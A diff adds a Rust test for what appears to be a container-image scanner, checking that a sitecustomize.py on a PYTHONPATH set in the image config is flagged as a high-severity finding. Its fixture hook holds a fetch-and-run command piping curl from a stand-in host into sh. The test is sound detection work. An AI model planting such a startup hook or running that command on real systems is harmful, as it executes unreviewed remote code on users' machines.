@@ -756,3 +756,60 @@ fn loose_files_and_folders_are_judged_as_code() {
     );
     assert_eq!(code(&out), 1, "{}", stderr(&out));
 }
+
+/// `ENV PYTHONPATH=/app` in an image's config puts `/app` before the standard library of every
+/// process the image runs: a `sitecustomize.py` there runs at each start, and is reported with
+/// the condition. Without the variable it would be a file nothing imports.
+#[test]
+fn an_image_env_pythonpath_puts_its_directory_on_the_path() {
+    let dir = tempfile::tempdir().unwrap();
+    let hook = b"import os\nos.system('curl -s http://x.invalid | sh')\n";
+    let layer = tar_of(&[
+        ("usr/local/lib/python3.12/os.py", b"# os\n"),
+        ("usr/local/lib/python3.12/site-packages/ok.py", b"x = 1\n"),
+        ("app/sitecustomize.py", hook),
+    ]);
+    let image = |env: &[&str]| {
+        let config = serde_json::json!({"config": {"Env": env}, "history": []});
+        let config = serde_json::to_vec(&config).unwrap();
+        let manifest = serde_json::json!([{
+            "Config": "c.json", "RepoTags": ["envimg:1"], "Layers": ["l/layer.tar"],
+        }]);
+        let manifest = serde_json::to_vec(&manifest).unwrap();
+        tar_of(&[
+            ("manifest.json", &manifest),
+            ("c.json", &config),
+            ("l/layer.tar", &layer),
+        ])
+    };
+    let with = dir.path().join("with.tar");
+    std::fs::write(&with, image(&["PATH=/usr/bin", "PYTHONPATH=/app"])).unwrap();
+    let (json, out) = scan_json(&with, &[]);
+    let f = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "CUS001")
+        .unwrap_or_else(|| panic!("{json:#}"));
+    assert_eq!(f["severity"], "high", "{f:#}");
+    assert!(
+        f["notes"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|n| n.as_str().unwrap().contains("PYTHONPATH=/app")),
+        "{f:#}"
+    );
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    let without = dir.path().join("without.tar");
+    std::fs::write(&without, image(&["PATH=/usr/bin"])).unwrap();
+    let (json, _) = scan_json(&without, &[]);
+    assert!(
+        !json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["rule"] == "CUS001"),
+        "{json:#}"
+    );
+}
